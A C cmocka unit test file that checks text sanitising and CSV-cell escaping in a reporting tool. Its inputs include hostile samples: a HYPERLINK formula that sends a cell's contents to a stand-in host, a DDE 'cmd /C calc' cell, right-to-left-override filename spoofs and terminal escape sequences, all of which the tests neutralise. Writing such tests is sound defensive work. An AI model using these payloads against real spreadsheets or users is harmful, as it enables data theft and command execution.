/*
 * test_safe.c: text from an input made safe to show (core/safe.c) and CSV
 * cells (report/csv.c, OWASP's CSV injection advice), byte for byte. The
 * expected bytes are written out by hand from docs/limits.md#shown-text and
 * docs/formats.md#csv-cells.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "report/report.h"

static void expect_safe(const char *in, size_t n, const char *want)
{
    gvt_buf b;
    gvt_buf_init(&b);
    gvt_buf_safe(&b, in, n);
    assert_string_equal(b.data ? b.data : "", want);
    gvt_buf_free(&b);
}

static void shown_text(void **state)
{
    (void)state;
    expect_safe("plain label", 11, "plain label");
    expect_safe("\x1b]0;title\x07", 10, "\\x1B]0;title\\x07");
    expect_safe("a\tb\nc\rd", 7, "a\\x09b\\x0Ac\\x0Dd");
    expect_safe("del\x7f", 4, "del\\x7F");
    expect_safe("nul\0x", 5, "nul\\x00x");
    /* U+202E RIGHT-TO-LEFT OVERRIDE, U+2066 LRI, U+2069 PDI, U+202A LRE */
    expect_safe("\xe2\x80\xae"
                "exe.txt",
                10, "\\u202Eexe.txt");
    expect_safe("\xe2\x81\xa6x\xe2\x81\xa9", 7, "\\u2066x\\u2069");
    expect_safe("\xe2\x80\xaa", 3, "\\u202A");
    /* neighbours that are not controls stay: U+2029, U+202F, U+2065 */
    expect_safe("\xe2\x80\xa9\xe2\x80\xaf\xe2\x81\xa5", 9,
                "\xe2\x80\xa9\xe2\x80\xaf\xe2\x81\xa5");
    /* valid UTF-8 stays (é, €, an emoji); invalid bytes are escaped */
    expect_safe("\xc3\xa9\xe2\x82\xac\xf0\x9f\x97\xb3", 9,
                "\xc3\xa9\xe2\x82\xac\xf0\x9f\x97\xb3");
    expect_safe("\xff\xc0\x80\xed\xa0\x80", 6,
                "\\xFF\\xC0\\x80\\xED\\xA0\\x80");
    expect_safe("\xe2\x80", 2, "\\xE2\\x80"); /* cut sequence */
    /* backslashes are kept as they are */
    expect_safe("a\\x1B", 5, "a\\x1B");

    char buf[12];
    assert_string_equal(gvt_text_safe("\x1b[31mred", buf, sizeof buf),
                        "\\x1B[31mred");
    assert_string_equal(gvt_text_safe("0123456789abcdef", buf, sizeof buf),
                        "01234567..."); /* 8 + "..." + NUL = 12 */
}

static void expect_cell(const char *in, const char *want)
{
    gvt_buf b;
    gvt_buf_init(&b);
    gvt_csv_cell(&b, in);
    assert_string_equal(b.data ? b.data : "", want);
    gvt_buf_free(&b);
}

static void csv_cells(void **state)
{
    (void)state;
    /* formulas become text: a leading ' (OWASP) */
    expect_cell("=HYPERLINK(\"http://x/?\"&A1,\"y\")",
                "\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"y\"\")\"");
    expect_cell("=1+1", "'=1+1");
    expect_cell("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0");
    expect_cell("-2+3", "'-2+3");
    expect_cell("@SUM(A1:A9)", "'@SUM(A1:A9)");
    expect_cell("-", "'-");
    expect_cell("+", "'+");
    /* plain numbers stay numbers */
    expect_cell("-5", "-5");
    expect_cell("+1", "+1");
    expect_cell("-0.25", "-0.25");
    /* tab and CR cannot start a cell: escaped */
    expect_cell("\t=1", "\\x09=1");
    expect_cell("\r=1", "\\x0D=1");
    expect_cell("\x1b]0;t\x07", "\\x1B]0;t\\x07");
    expect_cell("\xe2\x80\xae"
                "cod.exe",
                "\\u202Ecod.exe");
    /* RFC 4180 quoting */
    expect_cell("a,b", "\"a,b\"");
    expect_cell("say \"hi\"", "\"say \"\"hi\"\"\"");
    expect_cell(" lead", "\" lead\"");
    expect_cell("trail ", "\"trail \"");
    expect_cell("line\nbreak", "\"line\nbreak\"");
    expect_cell("two\n=lines\r", "\"two\n=lines\\x0D\"");
    expect_cell("", "");
    expect_cell("For", "For");
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(shown_text),
        cmocka_unit_test(csv_cells),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
